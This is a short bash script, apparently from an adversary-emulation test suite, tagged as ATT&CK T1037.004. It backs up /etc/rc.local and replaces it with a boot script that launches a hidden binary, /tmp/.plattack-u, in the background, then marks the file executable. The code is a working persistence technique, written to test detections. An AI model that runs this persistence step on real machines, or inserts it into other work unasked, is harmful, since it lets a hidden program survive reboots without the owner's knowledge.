#!/bin/bash
# SPDX-License-Identifier: MIT
# attack: T1037.004
# tactic: persistence
# what: /etc/rc.local created, made executable
. "$AT_LIB"
at_backup /etc/rc.local
printf '#!/bin/sh -e\n/tmp/.plattack-u &\nexit 0\n' >/etc/rc.local
chmod +x /etc/rc.local
